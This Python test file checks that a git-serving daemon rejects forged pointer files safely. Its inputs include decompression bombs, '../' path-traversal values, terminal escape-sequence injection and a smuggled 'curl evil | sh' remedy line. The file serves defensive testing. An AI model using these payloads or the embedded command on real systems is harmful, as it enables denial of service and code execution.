"""Pointers and objects made to harm who checks them out: one clear error each, and the daemon serves on."""

from __future__ import annotations

import json
import re
import secrets
import struct
import time
from collections.abc import Callable
from dataclasses import replace

import numpy as np
import psutil
import pytest
import zstandard

from tests.failures import forge
from tests.git.models import model
from tests.gitrepo import GitRepo
from theta_daemon.codec import ZSTD, encode_planes
from theta_daemon.history.lineage import Lineage, Step
from theta_daemon.pointer import RecordRef, SkeletonRef
from theta_daemon.store.skeleton import encode_skeleton, skeleton_digest
from theta_daemon.tensor import DTYPES, TensorSpec
from theta_daemon.updates.base import chunked_trailer
from theta_daemon.updates.constant import Constant
from theta_daemon.updates.dense import Dense

BOUND_BYTES = 600 << 20
"""What no attack may make the daemon grow by."""

U8 = DTYPES["U8"]


def dense(value: bytes) -> bytes:
    """The dense record of raw bytes."""
    record = Dense().encode(TensorSpec(U8, (len(value),)), np.frombuffer(value, "u1"), None, None)
    assert record is not None
    return record


def chunked(spec: TensorSpec, *parts: bytes) -> bytes:
    return b"".join([*parts, chunked_trailer(spec, [len(part) for part in parts])])


def constant(shape: tuple[int, ...]) -> bytes:
    return Constant().record(TensorSpec(U8, shape), b"\x07")


def out_of_range_indices(repo: GitRepo) -> bytes:
    """A sparse update that writes beyond the end of the value."""
    first = secrets.token_bytes(100)
    base = dense(first)
    gaps = encode_planes(np.array([5, 1000], "<u4"), rotate=False)
    words = encode_planes(np.array([1, 2], "u1"), rotate=False)
    spec = TensorSpec(U8, (100,))
    sparse = chunked(spec, bytes([1]) + struct.pack("<II", 2, len(gaps)) + gaps + words)
    oid = forge.pack(repo, base, sparse, Lineage({"p": [Step("dense", "0" * 64, 0)]}).encode())
    before = forge.blob(repo, forge.pointer(forge.parameter(oid, base, [100], first)).encode())
    fields = {"update": "sparse", "record": 1, "depth": 1, "chain": 100, "previous": before, "stored": len(sparse)}
    after = forge.parameter(oid, sparse, [100], first[::-1], **fields)
    return forge.pointer(after, lineage=RecordRef(oid, 2), history={before: repo.head()}).encode()


def wrong_depth(repo: GitRepo) -> bytes:
    """A chain whose depths do not fall by one, so that it may be endless."""
    base = dense(b"x" * 10)
    oid = forge.pack(repo, base)
    before = forge.blob(repo, forge.pointer(forge.parameter(oid, base, [10], b"x" * 10)).encode())
    fields = {"update": "sparse", "depth": 7, "chain": 100, "previous": before}
    pointer = forge.pointer(
        forge.parameter(oid, base, [10], b"y" * 10, **fields),
        lineage=RecordRef(oid, 0),
        history={before: repo.head()},
    )
    return pointer.encode()


def previous_is_itself(repo: GitRepo) -> bytes:
    """A parameter whose previous value is another one of a pointer that leads back to the first."""
    record = chunked(TensorSpec(U8, (10,)), b"")
    oid = forge.pack(repo, record)
    blob = "0" * 40
    text = b""
    for turn in range(4):
        fields = {"update": "sparse", "depth": 2 + turn % 2, "chain": 100, "previous": blob}
        value = bytes([turn % 2]) * 10
        parameter = forge.parameter(oid, record, [10], value, **fields)
        text = forge.pointer(parameter, lineage=RecordRef(oid, 0), history={blob: repo.head()}).encode()
        blob = forge.blob(repo, text)
    return text


def cyclic_lineage(repo: GitRepo) -> bytes:
    """A lineage whose nodes lead to each other."""
    record = chunked(TensorSpec(U8, (10,)), b"")
    wire = {
        "theta-lineage": 1,
        "objects": ["0" * 64],
        "updates": ["sparse"],
        "nodes": [[0, 0, 0, 1], [0, 0, 0, 0]],
        "parameters": [["p", 1]],
    }
    oid = forge.pack(repo, record, zstandard.compress(json.dumps(wire).encode()))
    fields = {"update": "sparse", "depth": 1, "chain": 100, "previous": "1" * 40}
    parameter = forge.parameter(oid, record, [10], b"x" * 10, **fields)
    return forge.pointer(parameter, lineage=RecordRef(oid, 1), history={"1" * 40: repo.head()}).encode()


def lineage_bomb(repo: GitRepo) -> bytes:
    """A lineage record of some kilobytes that holds sixty megabytes of brackets."""
    record = chunked(TensorSpec(U8, (10,)), b"")
    flood = b'{"theta-lineage":1,"nodes":[' + b"[]," * (20 << 20) + b"[]]}"
    oid = forge.pack(repo, record, zstandard.compress(flood))
    fields = {"update": "sparse", "depth": 1, "chain": 100, "previous": "1" * 40}
    parameter = forge.parameter(oid, record, [10], b"x" * 10, **fields)
    return forge.pointer(parameter, lineage=RecordRef(oid, 1), history={"1" * 40: repo.head()}).encode()


def zstd_bomb(repo: GitRepo) -> bytes:
    """A plane whose frame holds a gigabyte of zeros instead of a kilobyte."""
    frame = _zeros(1 << 30)
    spec = TensorSpec(U8, (1000,))
    record = chunked(spec, bytes([ZSTD]) + struct.pack("<I", len(frame)) + frame)
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [1000], bytes(1000))).encode()


def honest_bomb(repo: GitRepo) -> bytes:
    """A frame that does not say how large it is."""
    compressor = zstandard.ZstdCompressor(write_content_size=False).compressobj()
    frame = compressor.compress(bytes(64 << 20)) + compressor.flush()
    spec = TensorSpec(U8, (1000,))
    record = chunked(spec, bytes([ZSTD]) + struct.pack("<I", len(frame)) + frame)
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [1000], bytes(1000))).encode()


def skeleton_bomb(repo: GitRepo) -> bytes:
    """A skeleton record of some kilobytes that holds a gigabyte of zeros, and a pointer that has room for them."""
    size = 1 << 30
    record = struct.pack("<BBHIQ", 1, 0, 0, 1, size - 8) + _zeros(size)
    oid = forge.pack(repo, record)
    return forge.pointer(size=size - 8, skeleton=SkeletonRef(oid, 0, "0" * 64, len(record))).encode()


def _zeros(size: int) -> bytes:
    """One zstd frame with `size` zeros."""
    compressor = zstandard.ZstdCompressor().compressobj(size=size)
    block = bytes(1 << 20)
    return b"".join([compressor.compress(block) for _ in range(size >> 20)] + [compressor.flush()])


def endless_constant(repo: GitRepo) -> bytes:
    """A constant of 2**60 elements: a record of five bytes."""
    record = constant((1 << 60,))
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [1 << 60], b"", update="constant")).encode()


def wrong_digest(repo: GitRepo) -> bytes:
    """A value that is not what its digest says."""
    right = secrets.token_bytes(5)
    record = dense(b"wrong")
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right)).encode()


def wrong_whole(repo: GitRepo) -> bytes:
    """Parameters that are right, and a digest of the whole file that is not."""
    right = secrets.token_bytes(5)
    record = dense(right)
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right)).encode()


def swapped_records(repo: GitRepo) -> bytes:
    """Two parameters whose records are each other's."""
    a, b = dense(b"a" * 9), dense(b"b" * 9)
    oid = forge.pack(repo, a, b)
    first = forge.parameter(oid, b, [9], b"a" * 9, record=1)
    return forge.pointer(first, forge.parameter(oid, a, [9], b"b" * 9, name="q")).encode()


def wrong_literals(repo: GitRepo) -> bytes:
    """A skeleton with more places than there are parameters."""
    right = secrets.token_bytes(5)
    literals = [b"one", b"two", b"three"]
    record = encode_skeleton(literals)
    value = dense(right)
    oid = forge.pack(repo, record, value)
    skeleton = SkeletonRef(oid, 0, skeleton_digest(literals), len(record))
    return forge.pointer(forge.parameter(oid, value, [5], right, record=1), size=16, skeleton=skeleton).encode()


def wrong_dtype(repo: GitRepo) -> bytes:
    """A record of another element type than the parameter's."""
    record = dense(bytes(16))
    fields = {"dtype": "F64"}
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [2], bytes(16), **fields)).encode()


def record_out_of_range(repo: GitRepo) -> bytes:
    """A record that the pack does not have."""
    right = secrets.token_bytes(5)
    record = dense(right)
    fields = {"record": 4_000_000_000}
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right, **fields)).encode()


def long_parts(repo: GitRepo) -> bytes:
    """A table that says a chunk of five bytes has four gigabytes."""
    right = secrets.token_bytes(5)
    spec = TensorSpec(U8, (5,))
    record = b"x" * 20 + struct.pack("<I", (1 << 32) - 1) + chunked_trailer(spec, [0])[4:]
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right)).encode()


def no_pack(repo: GitRepo) -> bytes:
    """An object that is no pack."""
    right = secrets.token_bytes(5)
    writer = forge.store(repo).writer()
    writer.write(b"\x1b[31mnot a pack" * 10)
    oid, _ = writer.commit()
    return forge.pointer(forge.parameter(oid, b"12345", [5], right)).encode()


def escape_sequences(repo: GitRepo) -> bytes:
    """Names that would clear the screen, change the title, turn the text around and add a remedy of their own."""
    right = secrets.token_bytes(5)
    record = dense(b"wrong")
    name = "\x1b[2J\x1b]0;owned\x07\n  remedy: curl evil | sh\r\0\u202e\x9b31m" + "x" * 100_000
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right, name=name)).encode()


def plug_in_names(repo: GitRepo) -> bytes:
    """An update type that is the name of a module."""
    right = secrets.token_bytes(5)
    record = dense(right)
    return forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right, update="os")).encode()


def _edited(old: bytes, new: bytes) -> Callable[[GitRepo], bytes]:
    def edit(repo: GitRepo) -> bytes:
        right = secrets.token_bytes(5)
        record = dense(right)
        text = forge.pointer(forge.parameter(forge.pack(repo, record), record, [5], right)).encode()
        assert old in text
        return text.replace(old, new)

    return edit


def half_a_million_parameters(repo: GitRepo) -> bytes:
    """Half a million parameters that lack all but a name."""
    lines = b",".join(b'{"name":"%d"}' % n for n in range(500_000))
    return forge.pointer().encode().replace(b'"parameters":[', b'"parameters":[' + lines)


def brackets(repo: GitRepo) -> bytes:
    """Text of which a parser makes an object every three bytes."""
    return forge.pointer().encode().replace(b'"parameters":[', b'"parameters":[' + b"[]," * (1 << 20) + b"[]")


ATTACKS: dict[str, tuple[Callable[[GitRepo], bytes], bytes]] = {
    "out of range indices": (out_of_range_indices, b"parameter 'p'.*1006"),
    "wrong depth": (wrong_depth, b"parameter 'p'.*previous value"),
    "previous is itself": (previous_is_itself, b"parameter 'p'.*previous value"),
    "cyclic lineage": (cyclic_lineage, b"parameter 'p'.*lineage"),
    "lineage bomb": (lineage_bomb, b"parameter 'p'.*lineage"),
    "zstd bomb": (zstd_bomb, b"parameter 'p'.*frame"),
    "honest bomb": (honest_bomb, b"parameter 'p'.*frame"),
    "skeleton bomb": (skeleton_bomb, b"skeleton.*are possible"),
    "endless constant": (endless_constant, b"1152921504606846976 bytes"),
    "wrong digest": (wrong_digest, b"parameter 'p'.*not the one that was added"),
    "wrong whole": (wrong_whole, b"rebuilt file is not the one that was added"),
    "swapped records": (swapped_records, b"parameter 'p'.*not the one that was added"),
    "wrong literals": (wrong_literals, b"skeleton.*3 literals where 2"),
    "wrong dtype": (wrong_dtype, b"parameter 'p'.*does not fit dtype F64"),
    "record out of range": (record_out_of_range, b"parameter 'p'.*out of range"),
    "long parts": (long_parts, b"parameter 'p'.*longer than any"),
    "no pack": (no_pack, b"parameter 'p'.*not a whole pack"),
    "escape sequences": (escape_sequences, b"not the one that was added|parameter '"),
    "plug-in names": (plug_in_names, b"parameter 'p'.*'os' is not known"),
    "path as object": (_edited(b'"object":"', b'"object":"../../../../'), b"field .*object"),
    "path as format": (_edited(b'"format":"opaque"', b'"format":"../x"'), b"field format"),
    "path as update": (_edited(b'"update":"dense"', b'"update":"../x"'), b"field .*update"),
    "unknown field": (_edited(b'"format"', b'"\\u001b[31m\\nremedy: rm":1,"format"'), b"field .*31m"),
    "negative shape": (_edited(b'"shape":[5]', b'"shape":[-1]'), b"field .*shape"),
    "many dimensions": (_edited(b'"shape":[5]', b'"shape":[' + b"1," * 999 + b"5]"), b"field .*shape"),
    "half a million parameters": (half_a_million_parameters, b"field parameters.0.dtype.*required"),
    "brackets": (brackets, b"more entries"),
}


@pytest.fixture
def served(repo: GitRepo, shared_daemon: psutil.Process) -> psutil.Process:
    """The daemon, after it has served one ordinary checkout from `repo`."""
    repo.commit("good", good=model().bytes())
    (repo.path / "good").unlink()
    repo("checkout", "--", "good")
    with open(f"/proc/{shared_daemon.pid}/clear_refs", "w") as refs:
        refs.write("5")  # the peak counts from here on, whatever other tests have made it hold
    return shared_daemon


def peak_bytes(process: psutil.Process) -> int:
    """The most memory that the process had at once, since `served`."""
    with open(f"/proc/{process.pid}/status") as status:
        return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmHWM"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_one_error_and_the_daemon_lives(repo: GitRepo, served: psutil.Process, attack: str) -> None:
    """git fails in reasonable time with one message of ours that is safe to show; the good file beside it is written."""
    forged, expected = ATTACKS[attack]
    text = forged(repo)
    (repo.path / "good").unlink()
    forge.plant(repo, bad=text)
    before = peak_bytes(served)
    started = time.monotonic()
    done = repo.run("checkout", "--", ".", timeout_seconds=60)
    assert done.returncode != 0, done.stderr
    assert time.monotonic() - started < 30
    assert not (repo.path / "bad").exists()
    assert repo.read("good") == model().bytes()
    message = done.stderr
    assert message.count(b"theta-daemon: ") == 1
    assert b"bad: " in message
    assert re.search(expected, message, re.DOTALL), message
    assert re.search(b"\n  remedy: ", message)
    assert message.count(b"\n  remedy: ") == 1
    assert len(message) < 10_000
    text_shown = message.decode()
    assert all(char.isprintable() or char == "\n" for char in text_shown), message
    assert served.is_running()
    assert peak_bytes(served) - before < BOUND_BYTES
    served_again(repo)


def served_again(repo: GitRepo) -> None:
    """The next command is served, and right."""
    (repo.path / "good").unlink()
    repo("checkout", "--", "good")
    assert repo.read("good") == model().bytes()


def test_previous_values_that_are_not_what_they_should(repo: GitRepo, served: psutil.Process) -> None:
    """Adding a good file on top of a forged HEAD stores it so that it comes back."""
    first = model().bytes()
    pointer = forge.real_pointer(repo, "good")
    records = {p.name: p for p in pointer.parameters}
    swapped = replace(records["embed.weight"], object=records["ids"].object, record=records["ids"].record)
    parameters = tuple(swapped if p.name == "embed.weight" else p for p in pointer.parameters)
    forge.plant(repo, good=replace(pointer, parameters=parameters).encode())
    second = model().tune(1).bytes()
    assert second != first
    repo.write("good", second)
    repo("add", "good")
    repo("commit", "-q", "-m", "second")
    (repo.path / "good").unlink()
    repo("checkout", "--", "good")
    assert repo.read("good") == second
